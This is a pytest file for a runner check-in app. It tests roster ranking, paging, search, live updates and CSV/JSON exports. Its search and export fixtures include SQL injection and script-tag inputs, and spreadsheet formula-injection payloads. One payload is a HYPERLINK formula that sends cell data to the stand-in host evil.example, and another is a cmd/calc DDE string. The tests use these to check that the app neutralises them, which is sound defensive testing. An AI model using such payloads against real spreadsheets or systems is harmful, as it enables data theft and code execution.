"""The roster at any size: chosen by kept ranks, in pages, searched, and asked whether it changed."""

import csv
import io
import json
import re
import time
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import event, insert, select, update

from checkin.core.model import Phase, Runner, Standing
from checkin.roster import exported
from checkin.roster.model import Show, Sort, Wish
from checkin.roster.view import row
from checkin.store import Tx, ranks, roster, runners, sweep
from checkin.store.tables import outbox, runner
from checkin.web import gather
from tests.roster.people import NOW, TODAY, ago, course, known
from tests.roster.test_view import PLACES, red_flag, referred
from tests.service.cast import SAM, STRANGER, make_world
from tests.web.site import Site, make_site

SINCE = ago(29)
MANY = 10_000


def put(site: Site, people: dict[str, Runner]) -> dict[str, int]:
    """Runners by their numbers, as they would have been saved at the roster's NOW."""
    site.world.clock.now = NOW
    with site.world.services.store.begin() as tx:
        return {
            number: runners.add(tx, site.world.team.id, number, one, NOW).id for number, one in people.items()
        }


def crowd(site: Site, count: int) -> None:
    """Copies of a few runners of every kind."""
    people = [one[1].runner for one in PLACES] + [red_flag().runner]
    made = put(site, {f"+1202555{at:04}": one for at, one in enumerate(people)})
    with site.world.services.store.begin() as tx:
        rows = [dict(one._mapping) for one in tx.execute(select(runner)).all()]
        copies = []
        for at in range(count - len(made)):
            copy = {name: value for name, value in rows[at % len(rows)].items() if name != "id"}
            copies.append(copy | {"number": f"+1303{at:07}", "folded": f" copy {at} 1303{at:07}"})
        for at in range(0, len(copies), 500):
            tx.execute(insert(runner), copies[at : at + 500])


@contextmanager
def counted(site: Site) -> Iterator[list[str]]:
    """The queries of what is done inside."""
    store, seen = site.world.services.store, list[str]()

    def note(_connection: Tx, _cursor: object, statement: str, *_: object) -> None:
        seen.append(statement)

    event.listen(store._reader, "before_cursor_execute", note)
    try:
        yield seen
    finally:
        event.remove(store._reader, "before_cursor_execute", note)


def ids(site: Site, wish: Wish) -> list[int]:
    with site.world.services.store.read() as tx:
        return ranks.chosen(tx, site.world.team.id, wish, 50, SINCE, NOW)[0]


def test_what_is_chosen_is_in_the_order_of_the_rows(site: Site):
    """Kept ranks and what other tables add come to what the rows themselves say."""
    people = [one[1].runner for one in PLACES] + [
        red_flag().runner,
        known(referred("refer.asked", 40)).runner,
    ]
    put(site, {f"+1202555{at:04}": one for at, one in enumerate(people)})
    with site.world.services.store.begin() as tx:
        tx.execute(update(runner).where(runner.c.number == "+12025550015").values(bad_since=NOW))
    with site.world.services.store.read() as tx:
        found = gather.page_of(tx, site.world.team, Wish(), NOW, site.world.services.protocol)
        chosen = ids(site, Wish())
        made = [row(one, NOW, site.world.services.protocol) for one in roster.some(tx, chosen, SINCE)]
    page = found.roster
    assert not found.broken and page.total == len(people) == page.found
    assert [one.id for part in page.sections for one in part.rows] == chosen
    assert [part.number for part in page.sections] == [len(part.rows) for part in page.sections]
    for show, of in {Show.NEED: "need", Show.RUN: "run"}.items():
        section = next(part for part in page.sections if part.key == of)
        assert set(ids(site, Wish(show=show))) == {one.id for one in section.rows}
    assert set(ids(site, Wish(show=Show.QUIET))) == {one.id for one in made if one.quiet}
    assert set(ids(site, Wish(show=Show.BETTER))) == {one.id for one in made if one.better}


def test_nobody_may_run_on_yesterdays_answer(site: Site):
    put(site, {"+12025550101": known(course("22222", {3: 2})).runner})
    site.sign_in()
    assert "Nobody needs you. 1 may run." in site.words().replace("\xa0", " ")
    site.world.clock.now = NOW + timedelta(days=1)
    site.sign_in()
    words = site.words().replace("\xa0", " ")
    assert "Nobody needs you. Nobody may run." in words
    assert "This morning’s question has not gone out." in words and "No questions asked yet today." in words


def test_a_text_that_did_not_arrive_puts_its_runner_among_those_to_check(site: Site):
    (sam,) = put(site, {"+12025550101": known(course("22222", {3: 2})).runner}).values()
    text = {"runner_id": sam, "number": "+12025550101", "kind": "morning", "key": "ask.morning", "body": "?"}
    text |= {"seq": 0, "rank": 0, "created_at": NOW - timedelta(hours=9)}
    with site.world.services.store.begin() as tx:
        tx.execute(insert(outbox).values(**text, local_date=TODAY, state="undelivered"))
    site.sign_in()
    assert "Number not reached" in site.words("/?show=all") and "Nobody may run" in site.words()
    with site.world.services.store.begin() as tx:
        tx.execute(insert(outbox).values(**text, local_date=ago(-1), state="delivered"))
    assert "May run" in site.words("/?show=run") and "Number not reached" not in site.words()


def test_pages_follow_each_other_and_keep_the_filter(site: Site):
    crowd(site, 130)
    site.sign_in()
    page = site.get("/?sort=name&find=copy").text
    assert "1 to 50 of 1" in page and 'rel="prev"' not in page
    assert "sort=name&amp;find=copy&amp;from=50" in page
    assert 'rel="prev"' in site.get("/?sort=name&find=copy&from=50").text
    assert 'rel="next"' not in site.get("/?sort=name&find=copy&from=100").text
    assert site.get("/?from=5000").status_code == 303
    seen = [site.get(f"/?from={start}").text.count('<li class="row') for start in (0, 50, 100)]
    assert seen == [50, 50, 30]


@pytest.mark.parametrize("query", ["from=-1", "from=x", "from=99999999999999999999", "sort=x", "show=x"])
def test_what_an_address_cannot_mean_is_left_out(site: Site, query: str):
    site.world.runner()
    site.sign_in()
    assert "Sam" in site.words(f"/?{query}")


@pytest.mark.parametrize("find", ["LUCÍA", "alv", "0102", "+1 (202) 555-0102", "álvarez lucia"])
def test_search_finds_a_name_or_a_number(site: Site, find: str):
    site.world.runner("+12025550102", "Lucía Álvarez")
    site.world.runner("+12025550103", "Alan Vargas 100%")
    site.sign_in()
    page = site.get("/?find=" + find.replace("+", "%2B").replace(" ", "%20"))
    assert "Lucía Álvarez" in page.text and "Alan Vargas" not in page.text
    assert "1 found for" in page.text


@pytest.mark.parametrize("find", ["marcsu", "%", "_", "\\", "' OR 1=1 --", "<script>", "\0", "🏃"])
def test_search_that_finds_nobody_says_so(site: Site, find: str):
    site.world.runner()
    site.sign_in()
    page = site.browser.get("/", base_url="https://checkin.example.org", query_string={"find": find})
    assert page.status_code == 200 and "No one called" in page.text and "Show all 1" in page.text
    assert "<script>" not in page.text


def test_another_order_is_a_flat_list_and_is_marked(site: Site):
    for at, name in enumerate(("Zoe", "amy", "Émile", "Bo")):
        site.world.runner(f"+1202555010{at}", name)
    site.sign_in()
    page = site.get("/?sort=name").text
    places = [page.index(f"<bdi>{name}</bdi></a>") for name in ("amy", "Bo", "Émile", "Zoe")]
    assert places == sorted(places)
    assert 'aria-current="true">Name</a>' in page and "Needs you today" not in page
    for one in Sort:
        assert site.get(f"/?sort={one.name.lower()}").status_code == 200


def test_the_first_page_asks_as_often_for_ten_thousand_as_for_fifty(site: Site):
    crowd(site, 50)
    site.sign_in()
    few, few_queries = took(site)
    crowd_more(site, MANY - 50)
    many, many_queries = took(site)
    assert many_queries == few_queries
    assert many < 2 * few + 0.1, f"{few * 1000:.0f} ms for 50, {many * 1000:.0f} ms for {MANY}"
    print(f"\n50 runners: {few * 1000:.0f} ms; {MANY}: {many * 1000:.0f} ms; {many_queries} queries")


def crowd_more(site: Site, count: int) -> None:
    with site.world.services.store.begin() as tx:
        rows = [dict(one._mapping) for one in tx.execute(select(runner)).all()]
        for start in range(0, count, 500):
            copies = []
            for at in range(start, min(start + 500, count)):
                copy = {name: value for name, value in rows[at % len(rows)].items() if name != "id"}
                copies.append(copy | {"number": f"+1404{at:07}", "folded": f" more {at} 1404{at:07}"})
            tx.execute(insert(runner), copies)


def took(site: Site, path: str = "/") -> tuple[float, int]:
    """The best of a few looks in seconds, and the queries of one."""
    site.get(path)
    with counted(site) as seen:
        site.get(path)
    # This process's own time, where the database is in it: other tests run beside this one.
    clock = time.process_time if site.world.services.store.is_sqlite else time.perf_counter
    best = []
    for _ in range(7):
        begun = clock()
        assert site.get(path).status_code == 200
        best.append(clock() - begun)
    return min(best), len(seen)


def live(site: Site, version: str = "", team: int | None = None) -> tuple[int, str]:
    answer = site.browser.get(
        f"/live?team={team or site.world.team.id}",
        base_url="https://checkin.example.org",
        headers={"If-None-Match": f'"{version}"'} if version else {},
    )
    return answer.status_code, answer.json["version"] if answer.status_code == 200 else ""


def test_a_page_that_is_open_learns_of_a_change_and_of_nothing_else(site: Site):
    site.world.runner()
    site.world.at(days=1, hours=7)
    site.sign_in()
    _, before = live(site)
    assert f'data-version="{before}"' in site.get("/").text
    assert live(site, before) == (304, "")
    site.world.at(days=1, hours=8)
    site.world.work()
    status, asked = live(site, before)
    assert status == 200 and asked != before
    site.world.says(SAM, "2")
    status, answered = live(site, asked)
    assert status == 200 and answered != asked
    assert live(site, answered) == (304, "")
    site.world.at(days=2, hours=1)
    site.sign_in()
    assert live(site, answered)[0] == 200  # the day is over: nobody may run on its answer
    with counted(site) as seen:
        live(site, answered)
    assert sum("FROM runner" in one for one in seen) == 1


def test_nobody_is_asked_about_who_is_not_there(site: Site):
    site.sign_in()
    assert live(site)[0] == 200
    assert live(site, team=99)[0] == 404


def test_a_runner_who_leaves_changes_the_page(site: Site):
    sam = site.world.runner()
    site.world.runner("+12025550102", "Bo")
    site.sign_in()
    _, before = live(site)
    with site.world.services.store.begin() as tx:
        runners.erase(tx, sam)
    assert live(site, before)[0] == 200


def test_everyone_can_be_ranked_anew(site: Site):
    made = put(
        site, {"+12025550101": known(course("22222", {3: 2})).runner, "+12025550102": red_flag().runner}
    )
    store = site.world.services.store
    with store.read() as tx:
        before = tx.execute(select(runner.c.line, runner.c.spot, runner.c.folded).order_by(runner.c.id)).all()
    with store.begin() as tx:
        tx.execute(update(runner).values(line=0, spot=0, folded=" ", day_ends=None))
        tx.execute(update(runner).where(runner.c.id == made["+12025550102"]).values(state="{}"))
        assert sweep.rank_again(tx) == 1
    with store.read() as tx:
        after = tx.execute(select(runner.c.line, runner.c.spot, runner.c.folded).order_by(runner.c.id)).all()
    assert after[0] == before[0] and after[1] != before[1]


def test_the_current_team_is_kept_in_every_link(site: Site):
    from tests.web.test_guard import other_coach

    coach = other_coach(site)
    from checkin import service

    service.add_coach(site.world.services, coach.name, coach.number, site.world.team)
    crowd(site, 60)
    site.sign_in(coach)
    page = site.get(f"/?team={site.world.team.id}&show=need").text
    assert f'name="team" value="{site.world.team.id}"' in page and 'name="show" value="need"' in page
    assert f"/?team={site.world.team.id}&amp;show=run" in page


NAMES = {
    "+12025550101": '=HYPERLINK("http://evil.example/?"&A1,"Sam")',
    "+12025550102": "x" * 2000,
    "+12025550103": "سمير \u202eحداد",
    "+12025550104": 'Ann "Nan", Jr.\r\n-2',
    "+12025550105": "@SUM(1+1)*cmd|' /C calc'!A0",
    "+12025550106": "half \ud83d a pair",
}


def sheet(site: Site, path: str) -> list[dict[str, str]]:
    answer = site.get(path)
    assert answer.status_code == 200 and answer.data.startswith(b"\xef\xbb\xbf")
    assert answer.headers["Content-Disposition"].startswith("attachment; filename=")
    text = answer.data.decode("utf-8-sig")
    assert text.count("\n") == text.count("\r\n")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def test_a_roster_leaves_as_a_sheet_that_reckons_with_nothing(site: Site):
    put(site, {number: known(course("22"), name=name).runner for number, name in NAMES.items()})
    site.sign_in()
    found = {one["number"]: one for one in sheet(site, "/export/roster.csv")}
    assert set(found) == {"'" + number for number in NAMES}
    for one in found.values():
        assert tuple(one) == exported.ROSTER
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in one.values())
    assert found["'+12025550101"]["name"] == "'" + NAMES["+12025550101"]
    for number in ("+12025550102", "+12025550103", "+12025550104"):
        assert found["'" + number]["name"] == NAMES[number]


def test_a_roster_leaves_as_json_with_names_as_typed(site: Site):
    put(site, {number: known(course("22"), name=name).runner for number, name in NAMES.items()})
    site.sign_in()
    made = json.loads(site.get("/export/roster.json").data)
    assert made["layout"] == exported.LAYOUT and made["team"]["name"] == "Riverside"
    assert {one["number"]: one["name"] for one in made["roster"]} == NAMES
    assert tuple(made["roster"][0]) == exported.ROSTER


def test_the_sheet_says_what_the_roster_says(site: Site):
    sam = site.world.runner()
    site.world.at(days=1, hours=8)
    site.world.work()
    site.world.says(SAM, "2")
    site.sign_in()
    (one,) = sheet(site, "/export/roster.csv")
    assert (one["id"], one["phase"], one["group"], one["stiffness"], one["may_run"]) == (
        str(sam), "rest", "rest", "2", "no",
    )  # fmt: skip
    # Nobody was at work on the day they joined.
    fared = ("questions_28_days", "answered", "late", "not_answered", "not_delivered", "not_asked")
    assert [one[name] for name in fared] == ["2", "1", "0", "0", "0", "1"]
    lines = sheet(site, "/export/history.csv")
    assert tuple(lines[0]) == exported.HISTORY
    kinds = [line["kind"] for line in lines]
    assert kinds[0] == "enrolled" and "decision" in kinds and kinds[-1] == "morning"
    assert [line["score"] for line in lines if line["kind"] == "morning"] == ["2"]
    made = json.loads(site.get("/export/history.json").data)
    assert len(made["history"]) == len(lines)


def test_no_crisis_text_and_no_words_of_a_flag_leave_in_a_file(site: Site):
    site.world.coach()
    site.world.runner()
    site.world.says(SAM, "i want to die")
    site.sign_in()
    for path in ("roster.csv", "roster.json", "history.csv", "history.json"):
        assert "want to die" not in site.get(f"/export/{path}").text
    assert "Crisis, call now" in site.get("/export/roster.csv").text


def test_who_cannot_be_read_is_named_in_the_file(site: Site):
    sam = site.world.runner()
    broken = site.world.runner("+12025550102", "Bo")
    with site.world.services.store.begin() as tx:
        tx.execute(update(runner).where(runner.c.id == broken).values(state="{}"))
    site.sign_in()
    found = {one["id"]: one["readable"] for one in sheet(site, "/export/roster.csv")}
    assert found == {str(sam): "yes", str(broken): "no"}
    assert site.get("/export/history.csv").status_code == 200


def test_a_large_team_leaves_whole(site: Site):
    crowd(site, 250)
    site.sign_in()
    assert len(sheet(site, "/export/roster.csv")) == 250
    assert len({one["id"] for one in json.loads(site.get("/export/roster.json").data)["roster"]}) == 250


@pytest.mark.parametrize("path", ["/export/roster.xml", "/export/notes.csv", "/export/roster.csv?team=99"])
def test_what_is_not_exported_is_not_found(site: Site, path: str):
    site.world.runner()
    site.sign_in()
    assert site.get(path).status_code == 404


def test_the_layout_is_described(site: Site):
    page = (Path(__file__).parents[2] / "docs" / "export.md").read_text(encoding="utf-8")
    for column in (*exported.ROSTER, *exported.HISTORY):
        assert f"`{column}`" in page


def test_both_databases_choose_count_and_find_alike(database_url: str):
    world = make_world(database_url)
    site = make_site(world)
    people = [one[1].runner for one in PLACES] + [red_flag().runner]
    put(site, {f"+1202555{at:04}": one for at, one in enumerate(people)})
    site.sign_in()
    page = site.get("/").text
    assert f'data-version="{live(site)[1]}"' in page
    shown = [int(one) for one in re.findall(r'id="runner-(\d+)"', page)]
    assert shown == ids(site, Wish()) and len(shown) == len(people)
    for query in (
        "sort=name",
        "sort=trend",
        "sort=heard",
        "show=need&find=sam+riv",
        "find=0015",
        "show=quiet",
    ):
        assert 'class="row' in site.get(f"/?{query}").text, query
    for path in ("/export/roster.json", "/export/history.json"):
        assert json.loads(site.get(path).data)["layout"] == exported.LAYOUT
    world.services.store.close()


def test_danger_words_before_a_yes_stand_on_top_and_can_be_seen_to(site: Site):
    site.sign_in()
    site.world.says(STRANGER, "RIVER")
    assert "Needs you today" not in site.words("/")  # the control
    site.world.says(STRANGER, "I felt a pop")
    page = site.words("/")
    assert "Needs you today" in page and STRANGER in page and "felt a pop" in page
    with site.world.services.store.read() as tx:
        found = runners.by_number(tx, STRANGER)
    assert found is not None
    assert site.post(f"/runners/{found.id}/acknowledge").status_code == 303
    assert site.post(f"/runners/{found.id}/dismiss", note="called, a calf cramp").status_code == 303
    assert "Needs you today" not in site.words("/")
    assert site.world.state(found.id).course.standing is Standing.INVITED
    site.world.at(hours=9)
    site.world.work()  # nothing goes to whoever never agreed but the answers to their own texts
    texts = [text for text in site.world.conversation(found.id) if not text.incoming]
    assert [text.kind for text in texts] == ["reply"] * len(texts) and texts
    site.world.says(STRANGER, "YES")
    assert site.world.state(found.id).course.phase is not Phase.REFERRAL
